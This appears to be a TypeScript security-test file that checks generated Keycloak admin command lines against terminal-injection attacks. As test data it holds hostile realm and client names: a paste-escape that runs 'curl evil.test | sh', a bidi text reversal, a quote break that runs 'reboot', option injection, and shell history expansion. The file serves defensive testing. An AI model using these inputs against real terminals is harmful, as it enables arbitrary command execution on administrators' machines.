import { clientRepresentation, kcadmLine, quoted } from '../../lib/keycloak/client-representation.ts';
import { fixLine } from '../../lib/keycloak/fix-line.ts';
import { REALM_DEFAULTS, type Realm } from '../../lib/settings/schema.ts';
import { type Attack, defence } from './attack.ts';

const CLIENT = 'lib/keycloak/client-representation.ts';
const ADDRESSES = { redirectUris: [], postLogoutUris: [], webOrigin: null };

/** The line for a realm whose name is so, for an admin to paste. */
function lineFor(name: string): string {
  const client = clientRepresentation('full-signout', ADDRESSES);
  return kcadmLine(client, `https://op.test/realms/${encodeURIComponent(name)}`);
}

/** Lines that an admin pastes into a terminal. */
export const attacks: Attack[] = [
  {
    id: 'terminal-escape',
    what: 'A realm’s name ends the paste and has the terminal run what follows',
    defence: [
      ...defence(CLIENT, "isPlainText(name) && !name.startsWith('-') ? name : 'REALM'", 'name'),
      ...defence(CLIENT, 'plainText(text, Number.POSITIVE_INFINITY)', 'text'),
    ],
    succeeds: () => /\p{Cc}/u.test(lineFor('\u001b[201~\ncurl evil.test | sh\n')),
  },
  {
    id: 'terminal-reads-backwards',
    what: 'A realm’s name makes the line read as another than it is',
    defence: [
      ...defence(CLIENT, "isPlainText(name) && !name.startsWith('-') ? name : 'REALM'", 'name'),
      ...defence(CLIENT, 'plainText(text, Number.POSITIVE_INFINITY)', 'text'),
    ],
    succeeds: () => /\p{Bidi_Control}/u.test(lineFor('\u202effats')),
  },
  {
    id: 'terminal-quote',
    what: 'A realm’s name ends the quotes and is run',
    defence: defence(CLIENT, `.replaceAll("'", "'\\\\''")`),
    succeeds: () => quoted("'; reboot; '") === "''; reboot; ''",
  },
  {
    id: 'terminal-option',
    what: 'A realm’s name is an option of the program',
    defence: defence(CLIENT, " && !name.startsWith('-')"),
    succeeds: () => lineFor('--help').includes('-r --help'),
  },
  {
    id: 'terminal-history',
    what: 'A client’s name brings a line of the shell’s history into the command, as within double quotes',
    defence: [
      ...defence('lib/keycloak/fix-line.ts', '`$(kcadm.sh get clients', '`"$(kcadm.sh get clients'),
      ...defence('lib/keycloak/fix-line.ts', '--noquotes)`', '--noquotes)"`'),
    ],
    succeeds: () => {
      const realm: Realm = {
        ...REALM_DEFAULTS,
        id: 'a',
        issuer: 'https://op.test/realms/a',
        label: 'a',
        clientId: '!!',
      };
      return /"[^"]*!!/.test(fixLine('client-disabled', realm, ADDRESSES) ?? '');
    },
  },
];
